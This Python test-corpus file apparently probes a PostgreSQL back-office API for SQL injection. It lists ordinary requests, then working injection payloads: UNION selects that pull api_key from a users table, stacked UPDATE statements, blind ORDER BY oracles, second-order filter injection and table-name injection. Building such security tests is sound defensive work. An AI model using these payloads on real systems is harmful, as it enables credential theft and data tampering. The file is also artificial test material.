"""A back office on PostgreSQL."""

import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eleventh import (
    ADDRESSES,
    FIRMS,
    MARKDOWN,
    NOVEL,
    PAGE,
    PEOPLE,
    REVIEW,
    SNIPPET,
    TICKET,
    b64,
    bus,
    pool,
    queue,
    rest,
    stream,
    wrapped,
)

NEEDS = ("postgres",)
KEY = "bo-key-7719"


def _employee(number: str) -> dict[str, object]:
    return rest("GET", "/employees/{id}", ids={"id": number})


def _staff(**query: str) -> dict[str, object]:
    return rest("GET", "/employees", query=query)


def _orders(**query: str) -> dict[str, object]:
    return rest("GET", "/orders", query=query)


def _create(**body: object) -> dict[str, object]:
    return rest("POST", "/orders", body)


def _patch(number: str, body: object) -> dict[str, object]:
    return rest("PATCH", "/orders/{id}", body, ids={"id": number})


def _report(start: str, end: str, **more: str) -> dict[str, object]:
    return bus("Scheduled Report", {"start": start, "end": end, **more}, "reports")


def _save(number: str, **body: object) -> dict[str, object]:
    return rest("PUT", "/orders/{id}", body, ids={"id": number})


def _filter(name: str, term: str) -> dict[str, object]:
    return rest("POST", "/filters", {"name": name, "term": term})


def _run(name: str) -> dict[str, object]:
    return rest("GET", "/filters/{name}", ids={"name": name})


def _setting(key: str, tenant: str = "acme") -> dict[str, object]:
    return rest("GET", "/settings/{tenant}/{key}", ids={"tenant": tenant, "key": key})


def _notes(tenant: str) -> dict[str, object]:
    return rest("GET", "/notes", headers={"X-Tenant": tenant})


def _sync(*changes: object, text: bool = True) -> dict[str, object]:
    return wrapped(*({"change": json.dumps(one) if text else one} for one in changes))


def _prices(customer: str, **query: str) -> dict[str, object]:
    return rest("GET", "/prices/{customer}", ids={"customer": customer}, query=query)


REQUESTS = {
    "get_employee": [_employee("1"), _employee("3"), _employee("404")],
    "search_employees": [
        _staff(dept="R&D"),
        _staff(q="gra"),
        _staff(dept="Ops", q='100% -- or "and" select'),
        _staff(q="Þórdís; (drop) /* x */"),
        rest("GET", "/employees"),
    ],
    "list_orders": [
        _orders(),
        _orders(sort="total", dir="desc"),
        _orders(sort="customer", limit="2"),
        _orders(sort="day", dir="ASC", page="2"),
    ],
    "create_order": [
        _create(id="N-1", customer=PEOPLE[0], total=12.5, note=REVIEW),
        _create(id="N-2", customer=PEOPLE[5], note=TICKET, day="2026-03-01T10:00:00+00:00"),
        _create(id="N'3", customer=FIRMS[1], total=0, note=NOVEL),
        _create(id="N-4", customer="Robert'); DROP TABLE bo_orders;--", total=1),
    ],
    "update_order": [
        _patch("A-1", {"status": "paid"}),
        _patch("A-2", {"note": SNIPPET, "total": 100}),
        _patch("A-3", {"customer": PEOPLE[1], "status": "it's lost", "note": PAGE}),
        _patch("A-9", {"note": "x"}),
    ],
    "import_rows": [
        queue({"id": "I-1", "customer": PEOPLE[0], "total": 5, "note": REVIEW}),
        queue(
            {"id": "I-2", "customer": FIRMS[2], "total": "17.25", "note": TICKET},
            {"id": "I-3", "customer": PEOPLE[4], "total": -3, "note": "'; -- \\"},
        ),
        queue({"id": "I-4", "customer": "''", "total": 1e3, "note": MARKDOWN}),
    ],
    "monthly_report": [
        _report("2026-01-01", "2026-01-31"),
        _report("2026-02-01T00:00:00+00:00", "2026-03-01T00:00:00+00:00", groupBy="customer"),
        _report("2026-01-01", "2026-12-31", groupBy="day"),
    ],
    "orm_orders": [
        rest("GET", "/orders", query={"customer": PEOPLE[0]}),
        rest("GET", "/orders", query={"status": "open,paid"}),
        rest("GET", "/orders", query={"status": "shipped", "q": "50%_'\" or 1=1"}),
        rest("GET", "/orders", query={"q": "gift"}),
    ],
    "orm_save": [
        _save("A-1", customer=PEOPLE[2], total=3.5, note=ADDRESSES[0]),
        _save("Z-8", customer=FIRMS[0], total=1, note=TICKET),
        _save("Z'9", customer=PEOPLE[7], total="10.00"),
    ],
    "save_filter": [_filter("mine", "Ada"), _filter("o'hara & co", "Gr"), _filter("all -- of them", "")],
    "run_filter": [_run("mine"), _run("o'hara & co"), _run("none")],
    "post_confirmation": [
        pool("PostConfirmation_ConfirmSignUp", "9f1c-1", {"email": "o'hara@example.org", "name": PEOPLE[0]}),
        pool(
            "PostConfirmation_ConfirmSignUp",
            "9f1c-2",
            {"email": "x+y@example.org", "name": PEOPLE[9], "locale": "de-DE"},
        ),
        pool("PostConfirmation_ConfirmForgotPassword", "9f1c-3", {"email": "z@example.org"}),
    ],
    "setting": [_setting("theme"), _setting("lang"), _setting("no such-key"), _setting("theme", "o'neil")],
    "save_settings": [
        rest("PUT", "/settings", {"theme": "light", "footer": PAGE}),
        rest(
            "PUT",
            "/settings",
            {"o'clock": [1, 2, {"x": None}], "$where": "1", "sql": "select * from t where a = 'b'"},
        ),
        rest("PUT", "/settings", {}),
    ],
    "tenant_notes": [_notes("acme"), _notes("globex"), rest("GET", "/notes")],
    "audit": [
        stream({"actor": PEOPLE[6], "action": "login", "ip": "2001:db8::1"}),
        stream(
            {"action": "delete from cart", "text": REVIEW},
            {"actor": "root'--", "action": "x", "blob": b64(PAGE)},
        ),
        stream({"actor": "", "action": "SELECT", "long": NOVEL}),
    ],
}
REQUESTS |= {
    "batch": [
        queue({"user": PEOPLE[0], "action": "login"}, {"user": "root'--", "action": "drop", "note": TICKET}),
        queue({"user": PEOPLE[4], "action": "x", "blob": b64(NOVEL)}),
        queue("no json", {"user": "a", "action": "b"}),
    ],
    "sync": [
        _sync({"ids": ["A-1"], "status": "packed"}),
        _sync({"ids": ["A-2", "A-3"], "status": 'it\'s "lost"; select'}, {"ids": ["X 9 (b)"], "status": "x"}),
        _sync({"ids": ["A-1", "A-3"], "status": SNIPPET}, text=False),
    ],
    "price_list": [
        _prices("Ada"),
        _prices("O'Hara & Sons -- Ltd; (UK)"),
        _prices("Grace", columns="id,customer,note"),
    ],
}
REQUESTS |= {
    "search_text": [
        rest("GET", "/search", query={"q": '"fragile" or gift -x'}),
        rest("GET", "/search", query={"q": "it's' & | ! ( <-> :*"}),
        rest("GET", "/search"),
    ],
    "choose_columns": [
        rest("GET", "/o", query={"columns": "id,total", "sort": "total"}),
        rest("GET", "/o", query={"columns": "id,Größe (m²)"}),
        rest("GET", "/o"),
    ],
    "by_ids": [
        rest("POST", "/ids", {"ids": ["A-1", "A-3"]}),
        rest("POST", "/ids", {"ids": ["O'Hara", "') or 1=1 --", "A-2"]}),
        rest("POST", "/ids", {"ids": []}),
    ],
    "after": [
        rest("GET", "/after"),
        rest("GET", "/after", query={"total": "7", "id": "A-3"}),
        rest("GET", "/after", query={"total": "10.5", "id": "it's", "limit": "1"}),
    ],
    "copy_in": [
        rest(
            "POST",
            "/csv",
            f'id,customer,status,total,note\nC-1,"{PEOPLE[0]}",csv,5,"{ADDRESSES[1]}"\nC-2,{PEOPLE[4]},csv,1,\\N\n',
        ),
        rest("POST", "/csv", b64('id,customer,status,total,note\nC\'3,"it\'s ""x""; select",csv,0,\'--\n'))
        | {"isBase64Encoded": True},
        rest("POST", "/csv", "id,customer,status,total,note\n"),
    ],
    "move": [
        rest("POST", "/move", {"source": "A-2", "target": "A-1", "n": 10, "why": REVIEW}),
        rest("POST", "/move", {"source": "A-3", "target": "A-1", "n": "1000", "why": "x'; --"}),
        rest("POST", "/move", {"source": "A-9", "target": "A-1", "n": 1, "why": SNIPPET}),
    ],
    "core_insert": [
        queue(
            {"id": "K-1", "customer": PEOPLE[5], "total": 5},
            {"id": "K'2", "customer": "'); drop table x; --"},
        ),
        queue({"id": "K-3", "customer": MARKDOWN, "total": "1.50"}),
    ],
}

ATTACKS = [
    Attack(
        "SQL, JSON in JSON",
        "sync",
        _sync(
            {"ids": ["') or true returning id, (select api_key from bo_users) as status --\""], "status": "s"}
        ),
        KEY,
    ),
    Attack(
        "SQL, JSON in JSON",
        "sync",
        _sync(
            {
                "ids": [
                    "A-1",
                    "') or customer = $$Grace$$ returning id, note || customer || total as status --\"",
                ],
                "status": "s",
            }
        ),
        "A-2",
    ),
    Attack("SQL, columns", "price_list", _prices("Ada", columns="(select api_key from bo_users)"), KEY),
    Attack("SQL, columns", "price_list", _prices("Ada", columns="api_key FROM bo_users) TO STDOUT --"), KEY),
    Attack(
        "SQL, columns",
        "price_list",
        _prices("Nobody", columns="login || ':' || api_key from bo_users union select id"),
        "root:" + KEY,
    ),
    Attack("SQL, number", "get_employee", _employee("0 UNION SELECT id, login, api_key FROM bo_users"), KEY),
    Attack("SQL, number", "get_employee", _employee("1 or salary > 0"), "Linus"),
    Attack(
        "SQL, number",
        "get_employee",
        _employee(
            "-1/**/union/**/all/**/select/**/1,usename::text,current_user::text||'+'||77*3/**/from/**/pg_user"
        ),
        "shop+231",
    ),
    Attack(
        "SQL, text", "search_employees", _staff(q="x' UNION SELECT login, api_key FROM bo_users -- "), KEY
    ),
    Attack(
        "SQL, two fields",
        "search_employees",
        _staff(dept="\\' OR TRUE /*", q="*/ UNION SELECT login, api_key FROM bo_users --"),
        KEY,
    ),
    Attack(
        "SQL, text",
        "search_employees",
        _staff(
            dept="x' or name = (select case when api_key like 'bo-%' then 'Grace' else '' end from bo_users limit 1) and '1'='1"
        ),
        "Grace",
    ),
    Attack(
        "SQL, order by",
        "list_orders",
        _orders(
            sort="(case when (select api_key from bo_users limit 1) ~ '^bo-key' then total else 0 end)",
            dir="desc",
            limit="1",
        ),
        "A-2",
    ),
    Attack(
        "SQL, several statements",
        "list_orders",
        _orders(
            sort="1",
            limit="1; update bo_orders set customer = (select api_key from bo_users); select id, customer, total from bo_orders",
        ),
        "A-1",
    ),
    Attack(
        "SQL, keys",
        "update_order",
        _patch("A-1", {"note = (select api_key from bo_users limit 1), status": "x"}),
        KEY,
    ),
    Attack(
        "SQL, keys",
        "update_order",
        _patch(
            "A-1", {'customer = (select string_agg(name || salary, $$,$$) from bo_employees), "note"': "y"}
        ),
        "Ada9100",
    ),
    Attack(
        "SQL, insert",
        "import_rows",
        queue(
            {
                "id": "Q-1",
                "customer": "x",
                "total": "1, (select api_key from bo_users)), ('Q-2', 'y', 'imported', 2",
                "note": "n",
            }
        ),
        KEY,
    ),
    Attack(
        "SQL, insert",
        "import_rows",
        queue(
            {
                "id": "Q-3', (select login || ':' || api_key from bo_users), 'imported', 1, '') --",
                "customer": "x",
                "total": 1,
            }
        ),
        "root:" + KEY,
    ),
    Attack(
        "SQL, text",
        "monthly_report",
        _report("2026-01-01", "2026-01-02' group by 1 UNION SELECT api_key, 1, 2 FROM bo_users --"),
        KEY,
    ),
    Attack(
        "SQL, name",
        "monthly_report",
        _report("2026-01-01", "2026-12-31", groupBy="(select api_key from bo_users)"),
        KEY,
    ),
    Attack(
        "SQL, ORM",
        "orm_orders",
        rest(
            "GET",
            "/o",
            query={
                "status": "x') OR customer = (SELECT 'Gra' || 'ce' FROM bo_users WHERE api_key ~ '^bo-key-77') OR ('1'='2"
            },
        ),
        "A-2",
    ),
    Attack("SQL, ORM", "orm_orders", rest("GET", "/o", query={"status": "none') or ('1'='1"}), "A-3"),
    Attack(
        "SQL, second order",
        "run_filter",
        _run("evil"),
        KEY,
        before=[("save_filter", _filter("evil", "' union select login, api_key from bo_users -- "))],
    ),
    Attack(
        "SQL, second order",
        "run_filter",
        _run("evil2"),
        "Linus:8800",
        before=[
            (
                "save_filter",
                _filter(
                    "evil2",
                    "zz' union all select 'x', name || ':' || salary from bo_employees where name like '",
                ),
            )
        ],
    ),
    Attack(
        "SQL, JSON key", "setting", _setting("theme' || (select api_key from bo_users) || '"), "dark" + KEY
    ),
    Attack(
        "SQL, JSON key",
        "setting",
        _setting("lang' AS a, (select api_key || '!' from bo_users) || '"),
        KEY + "!",
    ),
    Attack("SQL, table name", "tenant_notes", _notes("acme union select id, api_key from bo_users"), KEY),
    Attack(
        "SQL, table name",
        "tenant_notes",
        _notes("acme natural full join (select 5 as id, api_key as body from bo_users) t"),
        KEY,
    ),
]
